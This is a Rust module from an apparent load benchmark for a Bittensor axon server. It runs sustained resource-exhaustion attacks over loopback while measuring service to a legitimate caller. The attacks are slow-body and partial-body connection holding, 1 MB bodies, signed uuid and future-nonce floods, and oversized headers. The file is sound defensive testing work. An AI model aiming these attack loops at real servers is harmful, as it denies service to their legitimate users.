//! The attacks of the axon benchmark: one hostile machine (127.0.0.2; the big-body attack uses
//! eight loopback addresses) keeps an attack of one kind going until its stdin closes, while the
//! load generator measures what a registered caller still gets. The kinds are those of issue 15
//! and of the `hostile` tests, sustained instead of bounded:
//!
//! - `slow-body`: 500 connections trickling a body one byte every 2 s (half from an unregistered
//!   key, half correctly signed by a registered but hostile key);
//! - `partial`: 1,100 connections that send headers and 10 bytes of a 1,000-byte body, then hold;
//! - `big-body`: 250 connections at a time, each announcing and sending a 1 MB body;
//! - `uuid-flood`: the registered hostile key signs requests with a new 64-character uuid each;
//! - `future-nonce`: the same with nonces near `u64::MAX`;
//! - `big-header`: 64 connections at a time, each with a 100 KB header.
//!
//! The two holding attacks (`slow-body`, `partial`) re-open a connection the server closed one
//! second later (the attack is to hold connections, as in the report, where they were
//! never closed); the floods go on 100 ms after each answer, the signed ones at once. At the end
//! one JSON line reports connections opened and answers seen.

use std::io::BufRead;
use std::net::SocketAddr;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::Duration;

use anyhow::Result;
use bittensor::synapse::EMPTY_BODY_HASH;
use bittensor::Keypair;
use clap::ValueEnum;
use serde_json::json;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};

#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub enum Kind {
    SlowBody,
    Partial,
    BigBody,
    UuidFlood,
    FutureNonce,
    BigHeader,
}

impl Kind {
    pub const ALL: [Kind; 6] =
        [Kind::SlowBody, Kind::Partial, Kind::BigBody, Kind::UuidFlood, Kind::FutureNonce, Kind::BigHeader];

    pub fn name(&self) -> &'static str {
        match self {
            Kind::SlowBody => "slow-body",
            Kind::Partial => "partial",
            Kind::BigBody => "big-body",
            Kind::UuidFlood => "uuid-flood",
            Kind::FutureNonce => "future-nonce",
            Kind::BigHeader => "big-header",
        }
    }
}

impl std::fmt::Display for Kind {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.name())
    }
}

/// A key no server admits (public: derived from a fixed seed, benchmark only).
pub fn stranger() -> Keypair {
    Keypair::from_seed(&[0x5a; 32]).expect("fixed seed")
}

/// A registered key used against the axon (public: fixed seed, benchmark only).
pub fn hostile() -> Keypair {
    Keypair::from_seed(&[0x7e; 32]).expect("fixed seed")
}

#[derive(Debug, Default)]
struct Counters {
    connections: AtomicU64,
    answers: AtomicU64,
}

struct Ctx {
    addr: SocketAddr,
    axon_hotkey: String,
    stop: AtomicBool,
    n: Counters,
}

impl Ctx {
    fn running(&self) -> bool {
        !self.stop.load(Ordering::Relaxed)
    }

    async fn connect(&self, source: [u8; 4]) -> Option<TcpStream> {
        let s = TcpSocket::new_v4().ok()?;
        s.bind(SocketAddr::from((source, 0))).ok()?;
        let s = s.connect(self.addr).await.ok()?;
        self.n.connections.fetch_add(1, Ordering::Relaxed);
        Some(s)
    }

    /// A `Specs` head as the SDK builds it, signed by `signer` in the name of `caller`.
    fn head(&self, caller: &Keypair, signer: &Keypair, nonce: u64, uuid: &str, len: usize) -> String {
        let msg = format!("{nonce}.{}.{}.{uuid}.{EMPTY_BODY_HASH}", caller.ss58(), self.axon_hotkey);
        format!(
            "POST /Specs HTTP/1.1\r\nhost: axon\r\ncontent-type: application/json\r\ncontent-length: {len}\r\n\
             timeout: 12.0\r\nbt_header_dendrite_hotkey: {}\r\nbt_header_dendrite_nonce: {nonce}\r\n\
             bt_header_dendrite_uuid: {uuid}\r\nbt_header_dendrite_version: 9000000\r\n\
             bt_header_dendrite_signature: {}\r\ncomputed_body_hash: {EMPTY_BODY_HASH}\r\n\r\n",
            caller.ss58(),
            signer.sign(msg.as_bytes()).to_hex()
        )
    }

    /// Reads whatever comes back until the server closes (or `limit`); counts an answer.
    async fn drain(&self, s: &mut TcpStream, limit: Duration) {
        let mut buf = [0u8; 4096];
        let mut answered = false;
        let _ = tokio::time::timeout(limit, async {
            while let Ok(n) = s.read(&mut buf).await {
                if n == 0 {
                    break;
                }
                answered = true;
            }
        })
        .await;
        if answered {
            self.n.answers.fetch_add(1, Ordering::Relaxed);
        }
    }
}

fn now_ns() -> u64 {
    std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).map_or(0, |d| d.as_nanos() as u64)
}

/// A new 64-character uuid each call (never reused within a run or across runs).
fn uuid64() -> String {
    static N: AtomicU64 = AtomicU64::new(0);
    format!("{:032x}{:032x}", now_ns(), N.fetch_add(1, Ordering::Relaxed))
}

const HOME: [u8; 4] = [127, 0, 0, 2];
/// Before a flood's next connection.
const PAUSE: Duration = Duration::from_millis(100);
/// Before a holding attack re-opens a connection the server closed.
const REOPEN: Duration = Duration::from_secs(1);

async fn slow_body(c: Arc<Ctx>, i: usize) {
    let (stranger, hostile) = (stranger(), hostile());
    while c.running() {
        if let Some(mut s) = c.connect(HOME).await {
            let head = if i % 2 == 0 {
                c.head(&stranger, &stranger, now_ns(), "slow", 1000)
            } else {
                c.head(&hostile, &hostile, now_ns(), &uuid64(), 1000)
            };
            if s.write_all(head.as_bytes()).await.is_ok() {
                while c.running() && s.write_all(b" ").await.is_ok() {
                    let mut buf = [0u8; 1024];
                    match tokio::time::timeout(Duration::from_secs(2), s.read(&mut buf)).await {
                        Ok(Ok(0)) | Ok(Err(_)) => break,
                        Ok(Ok(_)) => {
                            c.n.answers.fetch_add(1, Ordering::Relaxed);
                            break;
                        }
                        Err(_) => {}
                    }
                }
            }
        }
        tokio::time::sleep(REOPEN).await;
    }
}

async fn partial(c: Arc<Ctx>) {
    let stranger = stranger();
    while c.running() {
        if let Some(mut s) = c.connect(HOME).await {
            let head = c.head(&stranger, &stranger, now_ns(), "partial", 1000);
            if s.write_all(head.as_bytes()).await.is_ok() && s.write_all(&[b' '; 10]).await.is_ok() {
                // Hold until the server lets go (or the attack ends).
                while c.running() {
                    let mut buf = [0u8; 1024];
                    match tokio::time::timeout(Duration::from_millis(500), s.read(&mut buf)).await {
                        Ok(Ok(0)) | Ok(Err(_)) => break,
                        Ok(Ok(_)) => c.n.answers.fetch_add(1, Ordering::Relaxed),
                        Err(_) => continue,
                    };
                }
            }
        }
        tokio::time::sleep(REOPEN).await;
    }
}

async fn big_body(c: Arc<Ctx>, i: usize, body: Arc<Vec<u8>>) {
    let stranger = stranger();
    let source = [127, 0, 0, 2 + (i % 8) as u8];
    while c.running() {
        if let Some(mut s) = c.connect(source).await {
            let head = c.head(&stranger, &stranger, now_ns(), "big", body.len());
            if s.write_all(head.as_bytes()).await.is_ok() {
                let _ = tokio::time::timeout(Duration::from_secs(10), s.write_all(&body)).await;
                c.drain(&mut s, Duration::from_secs(5)).await;
            }
        }
        tokio::time::sleep(PAUSE).await;
    }
}

async fn signed_flood(c: Arc<Ctx>, future: bool, lane: u64) {
    let hostile = hostile();
    let mut k = 0u64;
    while c.running() {
        k += 1;
        let nonce = if future { u64::MAX - (lane << 32) - k } else { now_ns() };
        if let Some(mut s) = c.connect(HOME).await {
            let mut req =
                c.head(&hostile, &hostile, nonce, &uuid64(), 2).replace("\r\n\r\n", "\r\nconnection: close\r\n\r\n");
            req.push_str("{}");
            if s.write_all(req.as_bytes()).await.is_ok() {
                c.drain(&mut s, Duration::from_secs(10)).await;
            }
        }
    }
}

async fn big_header(c: Arc<Ctx>) {
    let value = "5".repeat(100 * 1024);
    while c.running() {
        if let Some(mut s) = c.connect(HOME).await {
            let req = format!(
                "POST /Specs HTTP/1.1\r\nhost: axon\r\nbt_header_dendrite_hotkey: {value}\r\ncontent-length: 0\r\n\r\n"
            );
            if s.write_all(req.as_bytes()).await.is_ok() {
                c.drain(&mut s, Duration::from_secs(10)).await;
            }
        }
        tokio::time::sleep(PAUSE).await;
    }
}

/// Runs one attack until stdin closes; prints one JSON line of counts.
pub fn run(addr: SocketAddr, axon_hotkey: &str, kind: Kind) -> Result<()> {
    let rt = tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build()?;
    rt.block_on(async {
        let c = Arc::new(Ctx {
            addr,
            axon_hotkey: axon_hotkey.to_owned(),
            stop: AtomicBool::new(false),
            n: Counters::default(),
        });
        let mut tasks = Vec::new();
        match kind {
            Kind::SlowBody => (0..500).for_each(|i| tasks.push(tokio::spawn(slow_body(c.clone(), i)))),
            Kind::Partial => (0..1_100).for_each(|_| tasks.push(tokio::spawn(partial(c.clone())))),
            Kind::BigBody => {
                let body = Arc::new(vec![b' '; 1_000_000]);
                (0..250).for_each(|i| tasks.push(tokio::spawn(big_body(c.clone(), i, body.clone()))));
            }
            Kind::UuidFlood => (0..8).for_each(|i| tasks.push(tokio::spawn(signed_flood(c.clone(), false, i)))),
            Kind::FutureNonce => (0..8).for_each(|i| tasks.push(tokio::spawn(signed_flood(c.clone(), true, i)))),
            Kind::BigHeader => (0..64).for_each(|_| tasks.push(tokio::spawn(big_header(c.clone())))),
        }
        println!("ATTACKING");
        tokio::task::spawn_blocking(|| {
            let mut sink = String::new();
            while std::io::stdin().lock().read_line(&mut sink).map(|n| n > 0).unwrap_or(false) {}
        })
        .await?;
        c.stop.store(true, Ordering::Relaxed);
        for t in tasks {
            t.abort();
        }
        let doc = json!({
            "kind": kind.name(),
            "connections": c.n.connections.load(Ordering::Relaxed),
            "answers": c.n.answers.load(Ordering::Relaxed),
        });
        println!("{doc}");
        Ok(())
    })
}
